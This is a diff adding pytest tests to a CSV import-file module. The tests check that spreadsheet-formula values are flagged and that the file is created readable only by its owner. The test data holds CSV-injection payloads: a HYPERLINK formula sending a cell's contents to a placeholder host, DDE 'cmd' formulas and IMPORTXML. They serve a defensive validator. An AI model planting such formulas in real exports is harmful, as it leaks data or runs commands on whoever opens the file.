@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import hashlib
 import json
+import os
 from datetime import timedelta
 
 import pytest
@@ -160,6 +161,36 @@ def test_an_import_file_has_each_user_once(tmp_path):
         ["1.2", "77", "in"],
         ["3.4", "77", "in"],
     ]
+
+
+def test_an_import_file_has_no_formula(tmp_path):
+    """Whoever visits a site names the browser as they like, and a person may open the
+    file. Base64 may begin with a sign, and nothing comes of it."""
+    harmful = [
+        '=HYPERLINK("https://a.example/?"&B2)',
+        "=cmd|'/c'!A0",
+        "+IMPORTXML(A1)",
+        "-1+cmd|'/c'!A0",
+        "@SUM(1)",
+    ]
+    harmless = ["1.2", "+ab/c=.16", "-ab_c.16", "=.1", "GA1.2", "(1)"]
+    made = import_file(tmp_path)
+
+    problems = made.problems("add", [Member(user) for user in harmful + harmless])
+
+    assert [*problems] == harmful
+
+
+def test_an_import_file_is_its_owners(tmp_path):
+    """It holds ids: nobody else on the machine reads it, however the mask is set."""
+    before = os.umask(0)
+    try:
+        import_file(tmp_path).send(request_of("1.2"))
+    finally:
+        os.umask(before)
+
+    [file] = tmp_path.iterdir()
+    assert file.stat().st_mode & 0o777 == 0o600
 
 
 def test_an_import_file_of_its_own_has_who_has_left(tmp_path):
